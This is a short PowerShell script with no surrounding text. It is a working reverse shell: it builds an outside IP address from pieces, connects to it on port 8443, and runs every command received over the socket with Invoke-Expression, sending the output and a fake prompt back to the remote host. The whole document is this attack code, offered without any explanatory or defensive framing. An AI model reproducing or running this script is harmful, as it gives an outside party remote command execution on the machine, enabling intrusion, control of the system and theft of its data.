$h = "203.0.113." + (40 + 17)
$p = 8443
$client = New-Object System.Net.Sockets.TCPClient($h, $p)
$stream = $client.GetStream()
[byte[]]$bytes = 0..65535 | ForEach-Object { 0 }
while (($i = $stream.Read($bytes, 0, $bytes.Length)) -ne 0) {
    $data = (New-Object -TypeName System.Text.ASCIIEncoding).GetString($bytes, 0, $i)
    $out = (Invoke-Expression $data 2>&1 | Out-String)
    $prompt = $out + "PS " + (Get-Location).Path + "> "
    $send = ([Text.Encoding]::ASCII).GetBytes($prompt)
    $stream.Write($send, 0, $send.Length)
    $stream.Flush()
}
$client.Close()
